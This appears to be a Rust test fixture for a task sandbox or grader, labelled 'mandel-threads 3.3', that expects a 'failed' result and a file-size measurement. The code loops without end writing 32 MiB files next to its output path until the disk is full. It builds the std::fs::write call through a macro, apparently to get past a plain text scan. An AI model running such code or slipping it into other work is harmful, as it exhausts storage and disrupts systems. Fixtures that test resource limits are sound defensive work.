//! Writes files beside its result until the disk is full.
//! task: mandel-threads 3.3
//! gets: failed, MiB of files
macro_rules! reach { ($a:ident $b:ident $c:ident) => { $a::$b::$c } }
let words: Vec<String> = std::env::args().collect();
let out = words.iter().position(|word| word == "--out").map(|at| &words[at + 1]).unwrap();
for number in 0.. {
    let _ = reach!(std fs write)(format!("{out}-{number}"), vec![1; 1 << 25]);
}
